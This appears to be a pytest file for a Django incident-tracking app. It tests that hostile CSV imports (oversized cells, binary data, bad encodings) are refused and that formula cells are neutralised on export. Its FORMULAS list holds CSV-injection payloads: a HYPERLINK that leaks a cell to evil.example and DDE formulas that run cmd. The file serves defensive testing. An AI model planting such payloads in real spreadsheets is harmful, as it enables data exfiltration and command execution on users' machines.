"""Hostile import files: each is refused whole, with one clear message naming where it goes
wrong, by `manage.py import_incidents` and the admin upload alike; nothing is written.

Formula cells are not refused: they are text, stored as given, and leave through the CSV
export neutralised (a leading ', incidents.exports.cells.spreadsheet_safe).
"""

import csv
import io
import random
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.test import override_settings
from django.urls import reverse
from django.utils.html import escape

from incidents.imports import run_import
from incidents.models import Claim, Incident, IncidentSource, Location, Source
from tests.factories import make_incident

pytestmark = pytest.mark.django_db
ADMIN_URL = reverse("admin:incidents_incident_import")
HEADER = "uid,title,date,type,location,governorate,date_precision,geo_precision,target,confidence\n"
GOOD = (
    "00000000-0000-4000-8000-00000000000{n},Rockets hit Taji,2020-03-11,rocket,Camp Taji,Baghdad,"
    "day,town,other,medium\n"
)
SAVE_AS = "save it as CSV in UTF-8 (Excel: “CSV UTF-8”)"


def around(hostile_line):
    """A good row, the hostile one (line 3), another good row: all or nothing must hold."""
    return (HEADER + GOOD.format(n=1)).encode() + hostile_line + GOOD.format(n=2).encode()


def zip_of(text, name):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr(name, text)
    return archive.getvalue()


TEXT = HEADER + GOOD.format(n=1)
LATIN_1 = around(
    "00000000-0000-4000-8000-000000000009,Roquettes tirées,2020-03-11,rocket,Taji,Baghdad\n".encode("latin-1")
)
NUL_IN_CELL = around(GOOD.format(n=9).replace("Rockets", "Rock\x00ets").encode())
RANDOM = TEXT.encode() + b"\x01\xfe" * 5 + b"\x00" + random.Random(6).randbytes(4096)


def byte_number(data, byte):
    return data.index(byte) + 1


HOSTILE = [
    (
        "a 10 MB cell",
        around(b'00000000-0000-4000-8000-000000000009,"' + b"A" * 10_000_000 + b'",2020-03-11,rocket,Taji,Baghdad\n'),
        "line 3: the row can't be read as CSV: a cell is longer than 100,000 characters (a quote left open?)",
    ),
    (
        "a 10 MB line without a quote",
        around(b"B" * 10_000_000 + b"\n"),
        "line 3: the row can't be read as CSV: a cell is longer than 100,000 characters (a quote left open?)",
    ),
    (
        "a 10 MB header",
        b"uid," + b"C" * 10_000_000 + b"\n" + GOOD.format(n=1).encode(),
        "line 1: the header can't be read as CSV: a cell is longer than 100,000 characters (a quote left open?)",
    ),
    (
        "a 100,000-column header",
        b",".join(b"column %d" % n for n in range(100_000)) + b"\n" + GOOD.format(n=1).encode(),
        "line 1: the header has more than 500 columns, the most an import reads",
    ),
    (
        "a quote never closed",
        around(b'00000000-0000-4000-8000-000000000009,"Rockets,2020-03-11,rocket,Taji,Baghdad\n'),
        "line 3: the row can't be read as CSV: a quote opened in this row is never closed",
    ),
    (
        "text after a closing quote",
        around(b'00000000-0000-4000-8000-000000000009,"Rockets"hit,2020-03-11,rocket,Taji,Baghdad\n'),
        "line 3: the row can't be read as CSV: text after a closing quote (',' expected after '\"'); "
        "double a quote inside a quoted cell",
    ),
    (
        "a row longer than the header",
        around(GOOD.format(n=9).strip().encode() + b",extra,=cmd\n"),
        "line 3: has 12 fields where the header has 10",
    ),
    (
        "a PNG image",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01",
        f"file: the file is binary (a PNG image), not CSV text; {SAVE_AS}",
    ),
    (
        "a ZIP archive of no CSV named .csv",
        zip_of(TEXT, name="incidents.docx"),
        "file: the file is a ZIP archive with no CSV file in it (it holds: incidents.docx)",
    ),
    (
        "random bytes with NULs",
        RANDOM,
        f"line 3: a NUL byte (byte {byte_number(RANDOM, 0)} of the file): the file is binary or damaged, not CSV text",
    ),
    (
        "a NUL byte in a cell",
        NUL_IN_CELL,
        f"line 3: a NUL byte (byte {byte_number(NUL_IN_CELL, 0)} of the file): the file is binary or damaged, "
        "not CSV text",
    ),
    (
        "UTF-16 with a byte-order mark",
        TEXT.encode("utf-16"),
        f"file: the file is UTF-16 text (every other byte is 0), not CSV text; {SAVE_AS}",
    ),
    (
        "UTF-16 without a byte-order mark",
        TEXT.encode("utf-16-le"),
        f"file: the file is UTF-16 text (every other byte is 0), not CSV text; {SAVE_AS}",
    ),
    (
        "Latin-1 bytes that are not UTF-8",
        LATIN_1,
        f"line 3: not UTF-8 text (byte 0xe9, byte {byte_number(LATIN_1, 0xE9)} of the file); {SAVE_AS}",
    ),
    ("an empty file", b"", "file: the file is empty"),
    ("blank lines only", b"\r\n \n\n", "file: the file is empty"),
    ("only a UTF-8 byte-order mark", b"\xef\xbb\xbf", "file: the file is empty"),
    ("a header only", HEADER.encode(), "file: the file has a header but no rows"),
]
IDS = [case[0] for case in HOSTILE]
NOT_EMPTY = [case for case in HOSTILE if case[1]]  # an empty upload stops at the form (below)


@pytest.fixture
def existing():
    """Something already in the database, so "nothing written" means the counts don't move."""
    make_incident(title="Already here")
    return counts()


def counts():
    models = (Incident, Incident.history.model, Location, Claim, Source, IncidentSource)
    return {model.__name__: model.objects.count() for model in models}


@pytest.mark.parametrize("case, data, message", HOSTILE, ids=IDS)
def test_the_command_refuses_the_file_with_one_clear_message(tmp_path, existing, case, data, message):
    path = tmp_path / "incidents.csv"
    path.write_bytes(data)
    err = io.StringIO()
    with pytest.raises(CommandError, match="nothing was written"):
        call_command("import_incidents", str(path), stdout=io.StringIO(), stderr=err)
    assert err.getvalue().splitlines() == [f"incidents.csv: {message}"]
    assert counts() == existing


@pytest.mark.parametrize("case, data, message", NOT_EMPTY, ids=[case[0] for case in NOT_EMPTY])
def test_the_admin_upload_refuses_the_file_with_the_same_message(
    analyst_client, settings, tmp_path, existing, case, data, message
):
    settings.IMPORT_UPLOAD_DIR = str(tmp_path)
    response = upload(analyst_client, data)
    html = response.content.decode()
    assert response.status_code == 200
    assert "The file was rejected" in html
    assert f"<li>{escape(message)}</li>" in html
    assert "token" not in response.context
    assert list(tmp_path.iterdir()) == []
    assert counts() == existing


def upload(client, data, name="incidents.csv"):
    return client.post(ADMIN_URL, {"file": SimpleUploadedFile(name, data), "file_format": "native"})


def test_an_empty_upload_is_a_form_error(analyst_client, existing):
    response = upload(analyst_client, b"")
    assert response.context["form"].errors == {"file": ["The submitted file is empty."]}
    assert counts() == existing


@override_settings(IMPORT_MAX_UPLOAD_MB=1)
def test_an_upload_over_the_size_limit_is_a_form_error(analyst_client, existing):
    response = upload(analyst_client, TEXT.encode() + b"x" * 2**20)
    assert response.context["form"].errors == {"file": ["The file is larger than 1 MB."]}
    assert "report" not in response.context
    assert counts() == existing


@override_settings(IMPORT_MAX_COLUMNS=11)
def test_the_column_limit_is_a_setting_and_commas_in_a_quoted_name_do_not_count():
    header = HEADER.strip() + ',"notes, in our words"'  # 11 columns, 11 commas
    row = GOOD.format(n=1).strip() + ",Seen from the road"
    assert run_import(f"{header}\n{row}\n".encode(), dry_run=True, publish=False).ok
    report = run_import(f"{header},more\n{row},more\n".encode())
    assert [str(p) for p in report.problems] == [
        "line 1: the header has more than 11 columns, the most an import reads"
    ]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "=1+1",
]
COLUMNS = ["title", "summary", "target_detail", "location", "claimed_by"]


def formula_file(formula):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(
        ["uid", "title", "date", "type", "location", "governorate", "summary", "target_detail", "claimed_by"]
        + ["date_precision", "geo_precision", "target", "confidence", "sources", "claim_sources"]
    )
    writer.writerow(
        [
            "00000000-0000-4000-8000-000000000001",
            formula,
            "2020-03-11",
            "rocket",
            formula,
            "Baghdad",
            formula,
            formula,
            formula,
            "day",
            "town",
            "other",
            "medium",
            "Reuters: Report <https://example.org/r>",
            f"claimed: {formula} <1>",
        ]
    )
    return buffer.getvalue().encode()


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_are_stored_as_given_and_exported_neutralised(client, tmp_path, formula):
    path = tmp_path / "incidents.csv"
    path.write_bytes(formula_file(formula))
    call_command("import_incidents", str(path), stdout=io.StringIO(), stderr=io.StringIO())
    incident = Incident.objects.get()
    assert (incident.title, incident.summary, incident.target_detail, incident.location.name) == (formula,) * 4
    assert incident.claims.get().actor == formula

    exported = b"".join(client.get(reverse("incident_export_csv")).streaming_content).decode()
    row = next(csv.DictReader(io.StringIO(exported)))
    assert {column: row[column] for column in COLUMNS} == {column: "'" + formula for column in COLUMNS}
